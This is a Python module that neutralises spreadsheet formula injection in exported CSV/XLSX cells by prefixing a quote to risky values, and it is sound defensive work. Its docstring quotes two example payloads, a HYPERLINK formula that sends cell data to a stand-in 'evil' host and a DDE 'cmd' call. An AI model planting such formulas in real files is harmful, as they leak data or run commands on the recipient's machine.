"""Cells of the files we export (CSV, XLSX) as text a spreadsheet shows and never runs.

Excel, WPS and LibreOffice take a cell that starts with "=", "+", "-" or "@" (and, after a
TAB or CR, whatever follows) as a formula: a member name or batch label such as
=HYPERLINK("http://evil/?"&A1) or =cmd|' /C calc'!A0 would run on the manager's machine
(CSV/formula injection). As OWASP advises, such a cell gets a leading "'", which makes it
text and is not shown. Real numbers are left alone, so a negative amount stays a number.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

# The fullwidth forms too: WPS and Excel in a Chinese locale read "＝1+1" as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
# A plain number as text ("-12.50", "+3"): a value, not a formula.
_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")

Cell = str | int | float | bool | None


def neutralise_formula(value: Cell) -> Cell:
    """One cell as it may be written: text that a spreadsheet would take for a formula gets
    a leading "'"; numbers, booleans, None and plain-number text are unchanged."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value


def export_row(values: Iterable[Cell]) -> list[Cell]:
    """A row of cells for a CSV writer or a worksheet, each through `neutralise_formula`."""
    return [neutralise_formula(v) for v in values]
